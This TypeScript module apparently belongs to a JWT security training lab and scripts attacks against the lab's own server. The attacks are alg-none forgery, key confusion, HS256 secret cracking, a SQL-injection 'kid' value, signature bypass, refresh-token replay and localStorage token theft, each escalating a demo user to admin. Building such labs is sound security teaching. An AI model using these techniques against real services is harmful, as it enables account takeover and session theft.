import { base64url } from 'jose';
import {
  crackHs256Secret,
  decodeToken,
  forgeUnsigned,
  publicKeyPem,
  signHs256,
  signWithPublicKeyText,
} from '../../../../common/jwt-inspect';
import { keyKind, type JWT_LAB } from '../../../../common/labs/jwt';
import type { LabAttackId } from '../../../../common/labs';
import { isAccessAlgorithm, type AccessAlgorithm } from '../../../../common/schemas/jwt';
import { answerOf } from '../../api/client';
import type { AttackContext, AttackResult } from '../../components/attack-catalogue';
import { LOCAL_STORAGE_KEY, raceRefresh } from './jwt-slice';

export type JwtAttackId = LabAttackId<typeof JWT_LAB>;

/** The demo user every JWT attack signs in as (the victim). */
function victimAccount(ctx: AttackContext) {
  const user = ctx.get().accounts.find((a) => a.role === 'user' && !a.mfa);
  if (!user) throw new Error('The demo user account is not loaded yet.');
  return user;
}

const utf8 = (text: string) => new TextEncoder().encode(text);

async function victimToken(ctx: AttackContext, steps: string[]) {
  const user = victimAccount(ctx);
  const login = await answerOf('POST /api/jwt/login', { body: { email: user.email, password: user.password } });
  const token = login.body.accessToken;
  if (login.status !== 200 || !token) throw new Error(`Could not sign in as ${user.email} (${login.status}).`);
  const decoded = decodeToken(token);
  if (!decoded.ok) throw new Error(decoded.error);
  steps.push(
    `Signed in as ${user.email}: a ${String(decoded.token.header.alg)} token with role "${String(decoded.token.payload.role)}".`,
  );
  return { token, header: decoded.token.header, payload: decoded.token.payload };
}

async function tryAdmin(forged: string, steps: string[]): Promise<AttackResult> {
  const res = await answerOf('GET /api/jwt/admin', { token: forged });
  const error = res.body.error;
  steps.push(`GET /api/jwt/admin with the forged token → ${res.status}${error ? ` ${error}` : ''}.`);
  return res.status === 200
    ? { succeeded: true, summary: 'The server accepted the forged admin token.', steps }
    : { succeeded: false, summary: `Refused: ${res.status} ${error ?? ''}`.trim(), steps };
}

/** Returns the algorithm the lab used before, when it had to rotate for this attack. */
async function ensureAccessAlgorithm(
  want: (alg: string) => boolean,
  alg: AccessAlgorithm,
  steps: string[],
): Promise<string | null> {
  const keys = (await answerOf('GET /api/lab/jwt/keys')).body;
  const current = keys.find((k) => k.purpose === 'access' && k.retireAt === null);
  if (current && want(current.alg)) return null;
  await answerOf('POST /api/jwt/keys/rotate', { body: { alg } });
  steps.push(`The lab signed with ${current?.alg ?? '?'}; rotated to a new ${alg} key for this attack.`);
  return current?.alg ?? null;
}

/**
 * Puts the lab back on the algorithm it used before the attack, so other labs
 * see their usual tokens. The attack's own key is dropped at once (a
 * "compromised" rotation), so no attack key, weak or not, is left verifying.
 */
async function restoreAccessAlgorithm(previous: string | null, steps: string[]): Promise<void> {
  if (!previous || !isAccessAlgorithm(previous)) return;
  await answerOf('POST /api/jwt/keys/rotate', { body: { alg: previous, compromised: true } });
  steps.push(
    `Rotated the lab back to a ${previous} key and dropped the key made for the attack; the key you signed in with still verifies your token.`,
  );
}

/** Each attack talks to the real lab server, exactly as an attacker's script would. */
export const ATTACKS: Record<JwtAttackId, (ctx: AttackContext) => Promise<AttackResult>> = {
  algNone: async (ctx) => {
    const steps: string[] = [];
    const { header, payload } = await victimToken(ctx, steps);
    const forged = forgeUnsigned(header, { ...payload, role: 'admin' });
    steps.push('Rewrote the header to alg "none", set role "admin", dropped the signature.');
    return tryAdmin(forged, steps);
  },
  keyConfusion: async (ctx) => {
    const steps: string[] = [];
    // An HMAC key has no public half to confuse: borrow an RS256 key for the attack, then go back.
    const previous = await ensureAccessAlgorithm((alg) => alg !== 'HS256', 'RS256', steps);
    try {
      const { header, payload } = await victimToken(ctx, steps);
      const jwks = await answerOf('GET /.well-known/jwks.json');
      const pem = await publicKeyPem({ kind: 'jwks', json: JSON.stringify(jwks.body) }, header.kid);
      steps.push(
        `Downloaded the public ${keyKind(String(header.alg))} key for kid ${String(header.kid)} from /.well-known/jwks.json and turned it into PEM.`,
      );
      const forged = await signWithPublicKeyText({ ...header }, { ...payload, role: 'admin' }, pem);
      steps.push('Signed role "admin" with HS256, using the public PEM text as the HMAC secret.');
      return await tryAdmin(forged, steps);
    } finally {
      await restoreAccessAlgorithm(previous, steps);
    }
  },
  weakSecret: async (ctx) => {
    const steps: string[] = [];
    const previous = await ensureAccessAlgorithm((alg) => alg === 'HS256', 'HS256', steps);
    try {
      const { token, header, payload } = await victimToken(ctx, steps);
      const { words } = (await answerOf('GET /api/lab/jwt/wordlist')).body;
      steps.push(`Trying ${words.length} dictionary words offline against one captured token…`);
      const secret = await crackHs256Secret(token, words, { onProgress: ctx.progress });
      if (secret === null) {
        steps.push('No word matched: the secret is not in the dictionary.');
        return { succeeded: false, summary: 'Cracking failed: the secret is random.', steps };
      }
      steps.push(`Cracked: the secret is "${secret}". Signed role "admin" with it.`);
      return await tryAdmin(await signHs256(header, { ...payload, role: 'admin' }, utf8(secret)), steps);
    } finally {
      await restoreAccessAlgorithm(previous, steps);
    }
  },
  kidInjection: async (ctx) => {
    const steps: string[] = [];
    const { header, payload } = await victimToken(ctx, steps);
    const kid = "x' UNION SELECT 'attacker-secret' --";
    const forged = await signHs256({ ...header, kid }, { ...payload, role: 'admin' }, utf8('attacker-secret'));
    steps.push(`Set kid to ${kid} and signed role "admin" with HS256 and the secret "attacker-secret".`);
    return tryAdmin(forged, steps);
  },
  noVerify: async (ctx) => {
    const steps: string[] = [];
    const { token, payload } = await victimToken(ctx, steps);
    const [headerPart, , signature] = token.split('.');
    const body = base64url.encode(utf8(JSON.stringify({ ...payload, role: 'admin' })));
    steps.push('Edited the payload to role "admin" and kept the old signature.');
    return tryAdmin(`${headerPart}.${body}.${signature}`, steps);
  },
  refreshReuse: async (ctx) => {
    const steps: string[] = [];
    await victimToken(ctx, steps);
    steps.push('The victim and the thief both hold refresh token #1 and present it at the same moment.');
    const {
      results: [victim, thief],
      overlapped,
    } = await raceRefresh();
    if (!overlapped && victim.status === 200 && thief.status === 200) {
      throw new Error('The two requests never overlapped (each carried a different token). Run it again.');
    }
    const describe = (r: { status: number; body: { error?: string } }) =>
      `${r.status}${r.body.error ? ` ${r.body.error}` : ''}`;
    steps.push(`First use → ${describe(victim)}; second use of the same token → ${describe(thief)}.`);
    const both = victim.status === 200 && thief.status === 200;
    return both
      ? { succeeded: true, summary: 'The replayed refresh token worked: the thief has a fresh session.', steps }
      : { succeeded: false, summary: 'Reuse detected: the family is revoked, the thief gets nothing.', steps };
  },
  localStorage: async (ctx) => {
    const steps: string[] = [];
    const user = victimAccount(ctx);
    await ctx.get().jwtLogin(user.email, user.password, false);
    steps.push('The lab client signed in and stored its access token by its own rules.');
    // This is all an injected <script> needs: it runs with the page's origin.
    const stolen = window.localStorage.getItem(LOCAL_STORAGE_KEY);
    steps.push(`Injected script: localStorage["${LOCAL_STORAGE_KEY}"] → ${stolen ? 'a token!' : 'nothing'}.`);
    steps.push(`Injected script: document.cookie → "${document.cookie}" (the HttpOnly refresh cookie is invisible).`);
    if (!stolen) return { succeeded: false, summary: 'Nothing to steal: the token lives only in memory.', steps };
    const res = await answerOf('GET /api/jwt/me', { token: stolen });
    steps.push(`The attacker replays the stolen token from elsewhere: GET /api/jwt/me → ${res.status}.`);
    return res.status === 200
      ? { succeeded: true, summary: 'The injected script stole a working access token.', steps }
      : { succeeded: false, summary: 'The stolen token did not work.', steps };
  },
  longTtl: async (ctx) => {
    const steps: string[] = [];
    const { token } = await victimToken(ctx, steps);
    steps.push('An attacker copies the access token, then waits a day (lab clock +1 day).');
    const offsetBefore = ctx.get().meta?.clock.offsetMs ?? 0;
    await ctx.get().advanceClock(24 * 3600_000);
    try {
      const res = await answerOf('GET /api/jwt/me', { token });
      const error = res.body.error;
      steps.push(`GET /api/jwt/me with the day-old token → ${res.status}${error ? ` ${error}` : ''}.`);
      return res.status === 200
        ? { succeeded: true, summary: 'A day later the stolen token still works.', steps }
        : { succeeded: false, summary: 'The stolen token had already expired.', steps };
    } finally {
      // The clock only moves forward or back to real time: go back, then forward to where it was.
      await ctx.get().resetClock();
      if (offsetBefore > 0) await ctx.get().advanceClock(offsetBefore);
      steps.push('Lab clock back where it was before the attack.');
    }
  },
};
